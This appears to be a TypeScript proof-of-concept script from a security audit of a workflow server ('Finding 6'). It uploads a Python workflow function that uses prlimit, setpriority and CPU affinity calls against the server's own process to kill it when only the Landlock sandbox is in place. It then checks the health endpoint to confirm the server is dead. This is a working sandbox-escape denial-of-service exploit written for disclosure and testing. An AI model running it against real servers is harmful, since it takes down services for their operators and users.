/** Finding 6: behind Landlock alone, a function ends the server by one call. Needs root, to start the server as an ordinary user. */

import { chownSync, mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Program } from './program.ts'

/** A user that nothing else has. */
const USER = 48_613
const ATTACK = `
import json, os, resource
def workflow(_request, settings):
    pid, found = settings['pid'], {}
    for name, act in (
        ('priority', lambda: os.setpriority(os.PRIO_PROCESS, pid, 10)),
        ('processors', lambda: os.sched_setaffinity(pid, {0})),
        ('descriptors', lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (300, 300))),
        ('seconds of processor', lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))),
    ):
        try:
            act()
            found[name] = 'done'
        except OSError as error:
            found[name] = error.strerror
    return {'status_code': 200, 'body': json.dumps(found)}
`

export async function prove({ start, workflows, say }: Program): Promise<void> {
  const dataDir = mkdtempSync(join(tmpdir(), 'workflows-proof-'))
  chownSync(dataDir, USER, USER)
  const identity = ['--reuid', String(USER), '--regid', String(USER), '--clear-groups']
  const server = await start({
    dataDir,
    env: { WORKFLOWS_SANDBOX: 'landlock', HOME: dataDir },
    through: (command) => ({ file: 'setpriv', args: [...identity, ...command], identity: {} }),
  })
  let end: string | null = null
  server.process.once('exit', (code, signal) => (end = signal ?? String(code)))
  try {
    const hook = await workflows.createCatch(server, { source: ATTACK, settings: { pid: server.process.pid } })
    const answer = await workflows.callHook(hook, {}).catch(() => null)
    say(`what the function could do to the server: ${answer?.text.slice(0, 300) ?? 'no answer came'}`)
    for (let turn = 0; turn < 60 && end === null; turn += 1) {
      await fetch(`${server.url}/healthz`).catch(() => {})
      await new Promise((done) => setTimeout(done, 250))
    }
    say(end === null ? 'the server lives 15 s later' : `the server is dead: ${end}`)
  } finally {
    if (end === null) await server.close()
  }
}
